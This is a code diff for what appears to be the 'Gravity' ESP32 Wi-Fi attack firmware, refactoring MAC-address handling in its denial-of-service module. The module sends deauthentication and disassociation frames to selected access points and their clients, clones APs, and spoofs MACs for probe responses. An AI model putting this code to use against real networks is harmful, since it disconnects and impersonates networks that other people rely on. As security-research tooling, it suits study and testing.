@@ -1,6 +1,7 @@
 #include "dos.h"
 #include "beacon.h"
 #include "esp_err.h"
+#include "frames.h"
 #include "probe.h"
 #include "common.h"
 
@@ -36,6 +37,8 @@ esp_err_t cloneStartStop(bool isStarting, int useAuthType) {
     attack_status[ATTACK_AP_CLONE] = isStarting;
     attack_status[ATTACK_AP_DOS] = isStarting;
     attack_status[ATTACK_BEACON] = isStarting;
+    /* Update the frames Gravity listens for */
+    gravity_frames_rebuild();
 
     /* Start/stop hopping task loop if hopping is on by default for included features */
     hop_millis = dwellTime();
@@ -72,11 +75,11 @@ esp_err_t dosSendDeauth(uint8_t *srcAddr, uint8_t *destAddr, ScanResultAP *thisA
     /* Make sense of our parameters */
     if (thisAP != NULL) {
         /* Packet goes to or from an AP. Figure out whether srcAddr or destAddr is our STA */
-        if (!memcmp(srcAddr, thisAP->espRecord.bssid, 6)) {
+        if (gravity_mac_load(srcAddr) == thisAP->bssidKey) {
             /* Packet was from AP -> STA -- We want the same for deauth */
             memcpy(deauthSrc, srcAddr, 6);
             memcpy(deauthDest, destAddr, 6);
-        } else if (!memcmp(destAddr, thisAP->espRecord.bssid, 6)) {
+        } else if (gravity_mac_load(destAddr) == thisAP->bssidKey) {
             /* Packet was STA -> AP --- Swap order for deauth */
             memcpy(deauthSrc, destAddr, 6);
             memcpy(deauthDest, srcAddr, 6);
@@ -115,7 +118,7 @@ esp_err_t dosSendDeauth(uint8_t *srcAddr, uint8_t *destAddr, ScanResultAP *thisA
         deauth_standalone_packet(deauthSrc, deauthDest);
         /* Now set the MAC to STA's and send disassoc to AP */
         /* Check if it's broadcast first */
-        if (memcmp(deauthDest, BROADCAST, 6) && esp_wifi_set_mac(ESP_IF_WIFI_AP, deauthDest) != ESP_OK) {
+        if (!gravity_mac_is_broadcast(deauthDest) && esp_wifi_set_mac(ESP_IF_WIFI_AP, deauthDest) != ESP_OK) {
             #ifdef CONFIG_FLIPPER
                 printf("%sfor disassoc, continuing\n", STRINGS_SET_MAC_FAIL);
             #else
@@ -200,15 +203,16 @@ esp_err_t cloneProbeRequest(uint8_t *payload) {
     memcpy(strSsid, ssid, payload[PROBE_SSID_OFFSET - 1]);
     strSsid[payload[PROBE_SSID_OFFSET - 1]] = '\0';
 
+    gravity_mac_t destKey = gravity_mac_load(destAddr);
     char srcStr[MAC_STRLEN + 1];
     char destStr[MAC_STRLEN + 1];
     mac_bytes_to_string(srcAddr, srcStr);
-    mac_bytes_to_string(destAddr, destStr);
+    gravity_mac_format(destKey, destStr);
     #ifdef CONFIG_DEBUG
         #ifdef CONFIG_FLIPPER
-            printf("%s probe req for\n%25s\n", (memcmp(destAddr, BROADCAST, 6))?"Directed":"Wildcard", ssid);
+            printf("%s probe req for\n%25s\n", (destKey != GRAVITY_MAC_BROADCAST)?"Directed":"Wildcard", ssid);
         #else
-            ESP_LOGI(DOS_TAG, "Processing %s probe request from %s to %s for \"%s\"", (memcmp(destAddr, BROADCAST, 6))?"Directed":"Wildcard", srcStr, destStr, (char *)ssid);
+            ESP_LOGI(DOS_TAG, "Processing %s probe request from %s to %s for \"%s\"", (destKey != GRAVITY_MAC_BROADCAST)?"Directed":"Wildcard", srcStr, destStr, (char *)ssid);
         #endif
     #endif
 
@@ -231,7 +235,7 @@ esp_err_t cloneProbeRequest(uint8_t *payload) {
        with the MAC recorded for the matching selectedAP, and report if they are different
     */
     if (i < gravity_sel_ap_count) {
-        if (memcmp(destAddr, gravity_selected_aps[i]->espRecord.bssid, 6)) {
+        if (destKey != gravity_selected_aps[i]->bssidKey) {
             ESP_LOGI(DOS_TAG, "AP record and destAddr %s do not match", destStr);
         }
         /* Set MAC */
@@ -270,12 +274,12 @@ esp_err_t dos_display_status() {
     #ifdef CONFIG_FLIPPER
         printf("Gravity DOS: %s\nGravity selectedAPs: %d\n", attack_status[ATTACK_AP_DOS]?"ACTIVE":"INACTIVE", gravity_sel_ap_count);
         if (gravity_sel_ap_count > 0) {
-            gravity_list_ap(gravity_selected_aps, gravity_sel_ap_count, false);
+            gravity_list_ap(gravity_selected_aps, gravity_sel_ap_count, false, NULL);
         }
     #else
         ESP_LOGI(DOS_TAG, "DOS: %s\nGravity selectedAPs: %d\n", attack_status[ATTACK_AP_DOS]?"Active":"Inactive", gravity_sel_ap_count);
         if (gravity_sel_ap_count > 0) {
-            gravity_list_ap(gravity_selected_aps, gravity_sel_ap_count, false);
+            gravity_list_ap(gravity_selected_aps, gravity_sel_ap_count, false, NULL);
         }
     #endif
 
@@ -289,12 +293,12 @@ esp_err_t clone_display_status() {
     #ifdef CONFIG_FLIPPER
         printf("Gravity Clone: %s\nGravity selectedAPs: %d\n", attack_status[ATTACK_AP_CLONE]?"ACTIVE":"INACTIVE", gravity_sel_ap_count);
         if (gravity_sel_ap_count > 0) {
-            gravity_list_ap(gravity_selected_aps, gravity_sel_ap_count, false);
+            gravity_list_ap(gravity_selected_aps, gravity_sel_ap_count, false, NULL);
         }
     #else
         ESP_LOGI(DOS_TAG, "Clone: %s\nGravity selectedAPs: %d\n", attack_status[ATTACK_AP_CLONE]?"Active":"Inactive", gravity_sel_ap_count);
         if (gravity_sel_ap_count > 0) {
-            gravity_list_ap(gravity_selected_aps, gravity_sel_ap_count, false);
+            gravity_list_ap(gravity_selected_aps, gravity_sel_ap_count, false, NULL);
         }
     #endif
 
@@ -328,10 +332,12 @@ esp_err_t dosParseFrame(uint8_t *payload) {
 
     memcpy(destAddr, &payload[4], 6);
     memcpy(srcAddr, &payload[10], 6);
+    gravity_mac_t destKey = gravity_mac_load(destAddr);
+    gravity_mac_t srcKey = gravity_mac_load(srcAddr);
 
     /* Is the SRC or DEST a selectedAP? */
     int i;
-    for (i = 0; i < gravity_sel_ap_count && memcmp(destAddr, gravity_selected_aps[i]->espRecord.bssid, 6) && memcmp(srcAddr, gravity_selected_aps[i]->espRecord.bssid, 6); ++i) { }
+    for (i = 0; i < gravity_sel_ap_count && gravity_selected_aps[i]->bssidKey != destKey && gravity_selected_aps[i]->bssidKey != srcKey; ++i) { }
  
     if (i < gravity_sel_ap_count) {
         /* Found the AP */
@@ -342,16 +348,16 @@ esp_err_t dosParseFrame(uint8_t *payload) {
         /* Not an AP. See if it's a STA */
         int cliCount = 0;
         ScanResultSTA **allClients = collateClientsOfSelectedAPs(&cliCount);
-        for (i = 0; i < cliCount && memcmp(destAddr, allClients[i]->mac, 6) &&
-                memcmp(srcAddr, allClients[i]->mac, 6); ++i) { }
+        for (i = 0; i < cliCount && allClients[i]->macKey != destKey &&
+                allClients[i]->macKey != srcKey; ++i) { }
         if (i < cliCount) {
             /* Found one of selectedAPs' STA's - deauth it */
             dosSendDeauth(srcAddr, destAddr, NULL, allClients[i]);
         } else {
             #ifndef CONFIG_FLIPPER
                 char src[MAC_STRLEN + 1], dest[MAC_STRLEN + 1];
-                mac_bytes_to_string(destAddr, dest);
-                mac_bytes_to_string(srcAddr, src);
+                gravity_mac_format(destKey, dest);
+                gravity_mac_format(srcKey, src);
                 ESP_LOGI(DOS_TAG, "Ignoring packet [ %s ] => [ %s ]", src, dest);
             #endif
         }